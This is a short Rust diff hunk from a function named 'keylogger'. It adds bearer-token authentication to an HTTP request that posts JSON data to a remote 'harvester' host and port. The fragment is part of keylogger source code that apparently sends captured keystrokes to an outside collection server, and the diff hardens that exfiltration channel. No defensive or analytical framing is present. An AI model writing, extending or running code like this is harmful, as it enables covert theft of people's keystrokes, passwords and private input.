@@ -21,6 +21,7 @@ pub fn keylogger(reqwest_client: Client, global_state: AppState) {
                         global_state.env_vars.harvester_dns,
                         global_state.env_vars.public_harvester_port
                     ))
+                    .bearer_auth(&global_state.env_vars.worker_token)
                     .json::<Req>(&req)
                     .send()
                     .await;